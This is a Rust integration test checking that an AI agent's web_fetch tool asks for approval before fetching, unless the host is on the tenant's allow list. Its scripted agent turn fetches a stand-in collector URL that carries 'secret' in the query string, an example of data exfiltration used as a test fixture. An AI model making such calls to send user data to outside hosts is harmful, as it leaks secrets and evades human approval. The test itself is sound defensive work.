//! Data cannot leave unasked: `web_fetch` asks in interactive mode, and runs unasked only for a
//! host on the tenant's `web_fetch_allow` list.

use serde_json::json;

use crate::authority::{as_user, people_with_script};
use crate::support::{PATIENCE, eventually};

const SCRIPT: &str = r#"{"conversations": [{"when": "*", "turns": [
    {"tool_calls": [{"name": "web_fetch", "arguments": {"url": "https://collector.example.invalid/?d=secret"}}]},
    {"text": "done"}]}]}"#;

async fn fetch_in_a_new_session(app: &crate::router::App) -> String {
    let (_, created) = as_user(app, "alice", "POST", "/v1/sessions", Some(json!({}))).await;
    let session = created["session_id"].as_str().unwrap().to_owned();
    let path = format!("/v1/sessions/{session}/commands");
    let message = json!({"type": "user_message", "text": "summarise the notes"});
    assert_eq!(
        as_user(app, "alice", "POST", &path, Some(message)).await.0,
        202
    );
    session
}

#[tokio::test]
async fn web_fetch_asks_unless_the_host_is_allowed() {
    let app = people_with_script(SCRIPT).await;
    let first = fetch_in_a_new_session(&app).await;
    let item = eventually(
        "the first session's approval in the inbox",
        PATIENCE,
        || async {
            let (_, inbox) = as_user(
                &app,
                "alice",
                "GET",
                &format!("/v1/inbox?session={first}"),
                None,
            )
            .await;
            inbox["items"].as_array()?.first().cloned()
        },
    )
    .await;
    assert!(item.to_string().contains("web_fetch"), "{item}");

    app.store
        .tenants()
        .set_settings(
            &"default".into(),
            &json!({"web_fetch_allow": ["*.example.invalid"]}),
        )
        .await
        .unwrap();
    let second = fetch_in_a_new_session(&app).await;
    eventually("the second session's answer", PATIENCE, || async {
        let (_, body) = as_user(
            &app,
            "alice",
            "GET",
            &format!("/v1/sessions/{second}/messages"),
            None,
        )
        .await;
        let messages = body["messages"].as_array()?.clone();
        (messages.last()?["content"] == "done").then_some(())
    })
    .await;
    let (_, inbox) = as_user(
        &app,
        "alice",
        "GET",
        &format!("/v1/inbox?session={second}"),
        None,
    )
    .await;
    assert_eq!(
        inbox["items"].as_array().map(Vec::len),
        Some(0),
        "nothing asked: {inbox}"
    );
}
